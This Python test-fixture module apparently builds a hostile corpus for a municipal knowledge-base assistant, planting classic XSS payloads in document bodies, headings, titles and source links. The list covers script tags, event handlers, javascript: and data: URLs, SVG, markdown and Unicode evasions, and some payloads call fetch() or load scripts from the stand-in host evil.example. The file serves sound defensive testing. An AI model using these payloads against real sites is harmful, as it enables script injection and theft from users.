"""Classic XSS payloads, placed in real knowledge-base documents so that they come back inside real answers
and citations: body sentences (answer text and cited passages), headings (section paths), titles and
`source_uri` (through the `.meta.json` sidecar).

Every payload is unique (its id is in the code it would run), and every action it attempts is observable:
it sets `window.__xss`, opens a dialog, or makes a request to a host outside the allow-list.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

EVIL = "https://evil.example"

# What an injected payload would do, by id: a page flag, a dialog, a request off the allow-list.
ACTIONS = (
    "window.__xss='{id}'",
    "alert('{id}')",
    "fetch('//evil.example/{id}')",
)

# {js}: the action; {url}: a URL on a foreign host; {b64}/{b64html}: base64 of the action / of a script
# element running it.
TEMPLATES: dict[str, tuple[str, ...]] = {
    "script tags": (
        "<script>{js}</script>",
        "<SCRIPT>{js}</SCRIPT>",
        '<script type="text/javascript">{js};</script>',
        '<script src="{url}.js"></script>',
        "<script src={url}.js></script>",
        '"><script>{js}</script>',
        "'><script>{js}</script>",
        "</script><script>{js}</script>",
        "<scr<script>ipt>{js}</scr</script>ipt>",
        "<script>/*</script><script>*/{js}</script>",
        "<script>eval(atob('{b64}'))</script>",
        '<script type="module">import("{url}.mjs")</script>',
    ),
    "event handlers": (
        "<img src=x onerror={js}>",
        '<img src="x" onerror="{js}">',
        "<IMG SRC=x ONERROR={js}>",
        "<img/src/onerror={js}>",
        '<img src=x onerror="&#97;&#108;&#101;&#114;&#116;(&#39;{id}&#39;)">',
        "<svg onload={js}>",
        "<svg/onload={js}>",
        "<body onload={js}>",
        "<iframe onload={js}></iframe>",
        "<input autofocus onfocus={js}>",
        "<select autofocus onfocus={js}></select>",
        "<textarea autofocus onfocus={js}></textarea>",
        "<details open ontoggle={js}>",
        "<video><source onerror={js}></video>",
        "<audio src=x onerror={js}>",
        "<marquee onstart={js}>x</marquee>",
        "<div onmouseover={js}>hover me</div>",
        "<object data=x onerror={js}></object>",
        "<style onload={js}></style>",
        "<img src=x:x onerror=eval(atob('{b64}'))>",
        '<a href="#" onclick="{js}">click</a>',
        "<button onfocus={js} autofocus>ok</button>",
        "<form><button formaction=javascript:{js}>go</button></form>",
        '<div style="background:url(javascript:{js})">x</div>',
    ),
    "javascript: and data: URLs": (
        '<a href="javascript:{js}">click</a>',
        '<a href="JaVaScRiPt:{js}">click</a>',
        '<a href=" javascript:{js}">click</a>',
        '<a href="java&#x09;script:{js}">click</a>',
        '<a href="&#106;avascript:{js}">click</a>',
        '<iframe src="javascript:{js}"></iframe>',
        '<form action="javascript:{js}"><button>go</button></form>',
        '<a href="data:text/html,<script>{js}</script>">data</a>',
        '<a href="data:text/html;base64,{b64html}">data64</a>',
        '<iframe src="data:text/html,<script>{js}</script>"></iframe>',
        '<object data="data:text/html,<script>{js}</script>"></object>',
        '<embed src="data:image/svg+xml,<svg onload={js}>">',
        "javascript:{js}",
        "JAVASCRIPT:{js}",
        "data:text/html,<script>{js}</script>",
        "data:text/html;base64,{b64html}",
        '<meta http-equiv="refresh" content="0;url=javascript:{js}">',
        '<base href="javascript:{js}//">',
        '<link rel="stylesheet" href="{url}.css">',
        '<img src="{url}.png">',
        "{url}?q=<script>{js}</script>",
        "https://www.millbrook.example@evil.example/{id}",
        "https://www.millbrook.example.evil.example/{id}",
        "//evil.example/{id}",
    ),
    "SVG": (
        "<svg><script>{js}</script></svg>",
        "<svg><animate onbegin={js} attributeName=x dur=1s>",
        '<svg><a xlink:href="javascript:{js}"><text x=20 y=20>x</text></a></svg>',
        "<svg><set attributeName=onmouseover to={js}>",
        "<svg><foreignObject><img src=x onerror={js}></foreignObject></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror={js}>",
        "<svg><style>@import '{url}.css';</style></svg>",
        '<svg><image href="{url}.svg"/></svg>',
        "<svg><handler xmlns:ev=http://www.w3.org/2001/xml-events ev:event=load>{js}</handler></svg>",
    ),
    "markdown link tricks": (
        "[click me](javascript:{js})",
        "[click](JAVASCRIPT:{js})",
        "[x](data:text/html,<script>{js}</script>)",
        '![img](x" onerror="{js})',
        "[a](<javascript:{js}>)",
        "[a]( javascript:{js})",
        "[city site](https://www.millbrook.example) [more](javascript:{js})",
        "[![x]({url}.png)]({url})",
        "<{url}>",
        "**<img src=x onerror={js}>**",
        "`<script>{js}</script>`",
        "[x](javascript&#58;{js})",
        "[link][r] and [r]: javascript:{js}",
        "[x](https://www.millbrook.example@evil.example/{id})",
    ),
    "broken tags": (
        "<img src=x onerror={js}//",
        "<img src=x onerror={js} <!--",
        '<!--<img src="--><img src=x onerror={js}//">',
        '<img """><script>{js}</script>">',
        "</title><script>{js}</script>",
        "</textarea><script>{js}</script>",
        "</style><script>{js}</script>",
        "<![CDATA[<script>{js}</script>]]>",
        "<iframe src=javascript:{js}",
        "<svg onload={js}",
        '{{{{constructor.constructor("{js}")()}}}}',
        "${{{js}}}",
        '<noscript><p title="</noscript><img src=x onerror={js}>">',
        "<a href=javascript&colon;{js}>x</a>",
    ),
    "Unicode tricks": (
        "＜script＞{js}＜/script＞",
        "\u202e<script>{js}</script>",
        "<scr\u200bipt>{js}</scr\u200bipt>",
        "java\u200bscript:{js}",
        "<img src=x one\u200drror={js}>",
        "%3Cscript%3E{js}%3C/script%3E",
        "&lt;script&gt;{js}&lt;/script&gt;",
        "\\u003cscript\\u003e{js}\\u003c/script\\u003e",
        "\\x3cscript\\x3e{js}\\x3c/script\\x3e",
        "<ſcript>{js}</ſcript>",
        "https://www.millbr\u043e\u043ek.example/{id}",
        "\ufe64script\ufe65{js}\ufe64/script\ufe65",
        "\U000e003cscript\U000e003e{js}",
        "<img src=x onerror=\\u0061lert('{id}')>",
    ),
}

# Short ones fit in a heading (a line of at most 90 characters and 12 words).
HEADING_TEMPLATES = (
    "<img src=x onerror={js}>",
    "<svg onload={js}>",
    "<script>{js}</script>",
    "[x](javascript:{js})",
    "<a href=javascript:{js}>x</a>",
    "<b onmouseover={js}>x</b>",
)

# Where a citation's link would point: only the first one is on the allow-list; the others are
# accepted at ingest (http(s) with a host) and must be dropped by the API and the widget.
SOURCE_URIS = (
    "https://www.millbrook.example/services/xss-corpus/{id}",
    f"{EVIL}/{{id}}",
    "https://www.millbr\u043e\u043ek.example/{id}",
)
# Refused at ingest, with the reason the editor is shown: never stored, never handed out.
REFUSED_SOURCE_URIS = (
    ("javascript:window.__xss='{id}'", "must be an http(s) address, not javascript:"),
    ("JaVaScRiPt:alert('{id}')", "must be an http(s) address, not javascript:"),
    ("data:text/html,<script>alert('{id}')</script>", "must be an http(s) address, not data:"),
    ("https://www.millbrook.example@evil.example/{id}", "must not contain a user name or password"),
)

TOPICS = (
    "beehive registration",
    "chimney inspection",
    "boat mooring licence",
    "bonfire permit",
    "sidewalk cafe licence",
    "street party permit",
    "pigeon loft registration",
    "film shoot permit",
    "well drilling permit",
    "fireworks display licence",
    "bridle trail pass",
    "community garden plot",
    "canoe launch pass",
    "balloon landing permit",
    "market stall licence",
    "busking licence",
    "drone flight permit",
    "sandwich board permit",
    "rain barrel rebate",
    "compost bin voucher",
    "scaffolding permit",
    "dumpster placement permit",
    "chicken coop registration",
    "solar panel rebate",
    "ice rink booking",
    "pool lane rental",
    "band shell booking",
    "mural painting permit",
    "street banner permit",
    "parade route permit",
    "fishing pier pass",
    "kayak rack rental",
    "archery range pass",
    "skate park pass",
    "agility field booking",
    "heritage plaque grant",
    "sauna cabin booking",
    "telescope dome booking",
    "bell tower tour",
    "lighthouse visit pass",
    "observatory night pass",
    "orchard picking pass",
    "curling sheet rental",
    "sledding hill permit",
    "greenhouse bench rental",
    "climbing wall pass",
    "rowing shell storage",
    "trout pond licence",
)
SECTION_TOKENS = 170  # payload tokens per section: with its sentences and prefix it stays under 256
SECTIONS_PER_DOCUMENT = 6


@dataclass(frozen=True)
class Payload:
    id: str
    text: str
    where: str  # body | heading | title | source_uri
    category: str


@dataclass(frozen=True)
class Question:
    text: str
    document_id: str


def _fill(template: str, pid: str, action: str) -> str:
    js = action.format(id=pid)
    b64 = base64.b64encode(js.encode()).decode()
    b64html = base64.b64encode(f"<script>{js}</script>".encode()).decode()
    return template.format(js=js, url=f"{EVIL}/{pid}", b64=b64, b64html=b64html, id=pid)


def body_payloads() -> list[Payload]:
    """Each template with two different actions (ids b001...)."""
    out: list[Payload] = []
    for category, templates in TEMPLATES.items():
        for template in templates:
            for _ in range(2):
                pid = f"b{len(out) + 1:03d}"
                out.append(Payload(pid, _fill(template, pid, ACTIONS[len(out) % 3]), "body", category))
    return out


def _sentence(topic: str, index: int) -> str:
    return f"The {topic} fee is {10 + index} dollars per year"


def _sections(payloads: list[Payload], count_tokens: Callable[[str], int]) -> list[list[Payload]]:
    """Payloads grouped so that each section stays one paragraph under the chunker's limit: one chunk, so
    one citation brings back every payload of the section."""
    sections: list[list[Payload]] = [[]]
    used = 0
    for payload in payloads:
        cost = count_tokens(payload.text)
        if sections[-1] and used + cost > SECTION_TOKENS:
            sections.append([])
            used = 0
        sections[-1].append(payload)
        used += cost
    return sections


def _section(number: int, index: int, topic: str, payloads: list[Payload]) -> tuple[Payload, list[str]]:
    """A heading carrying a payload, then one paragraph: the fee sentence (with a payload inside the
    sentence the answer will quote) and the section's other payloads."""
    hid = f"h{number:02d}{index}"
    heading = Payload(hid, _fill(HEADING_TEMPLATES[index % 6], hid, ACTIONS[index % 3]), "heading", "heading")
    first, *rest = payloads
    paragraph = f"{_sentence(topic, index)} {first.text}. Apply for the {topic} at City Hall. "
    return heading, [
        f"{topic.capitalize()} fee {heading.text}",
        paragraph + " ".join(p.text for p in rest),
        "",
    ]


def _sidecar(doc_id: str, title: Payload, source: Payload) -> str:
    meta = {
        "id": doc_id,
        "title": title.text,
        "department": "Hostile corpus",
        "contact": "311",
        "effective_date": "2026-01-01",
        "source_uri": source.text,
    }
    return json.dumps(meta, ensure_ascii=False)


def write_documents(root: Path, count_tokens: Callable[[str], int]) -> tuple[list[Payload], list[Question]]:
    """Write hostile .txt documents with sidecars under `root`; return what was planted and what to ask."""
    body = body_payloads()
    planted: list[Payload] = list(body)
    questions: list[Question] = []
    grouped = _sections(body, count_tokens)
    sections = list(zip(TOPICS[: len(grouped)], grouped, strict=True))  # more topics than needed
    per_doc = SECTIONS_PER_DOCUMENT
    for number, start in enumerate(range(0, len(sections), per_doc), 1):
        doc_id = f"xss-corpus-{number:02d}"
        tid, uid = f"t{number:02d}", f"u{number:02d}"
        title = Payload(tid, _fill(HEADING_TEMPLATES[number % 6], tid, ACTIONS[0]), "title", "title")
        source_uri = SOURCE_URIS[(number - 1) % len(SOURCE_URIS)].format(id=uid)
        source = Payload(uid, source_uri, "source_uri", "source_uri")
        planted += [title, source]
        lines = [title.text, ""]
        for index, (topic, payloads) in enumerate(sections[start : start + per_doc]):
            heading, text = _section(number, index, topic, payloads)
            planted.append(heading)
            lines += text
            questions.append(Question(f"How much is the {topic} fee?", doc_id))
        (root / f"{doc_id}.txt").write_text("\n".join(lines), encoding="utf-8")
        (root / f"{doc_id}.txt.meta.json").write_text(_sidecar(doc_id, title, source), encoding="utf-8")
    return planted, questions


def write_refused(root: Path) -> dict[str, str]:
    """One plain document per source link that ingest must refuse; returns file name -> expected reason."""
    expected: dict[str, str] = {}
    for number, (template, reason) in enumerate(REFUSED_SOURCE_URIS, 1):
        doc_id = f"xss-refused-{number:02d}"
        title = Payload(f"r{number:02d}", f"Refused source {number}", "title", "title")
        source = Payload(f"r{number:02d}", template.format(id=f"r{number:02d}"), "source_uri", "source_uri")
        (root / f"{doc_id}.txt").write_text(f"{title.text}\n\nThe fee is $10.\n", encoding="utf-8")
        (root / f"{doc_id}.txt.meta.json").write_text(_sidecar(doc_id, title, source), encoding="utf-8")
        expected[f"{doc_id}.txt"] = reason
    return expected
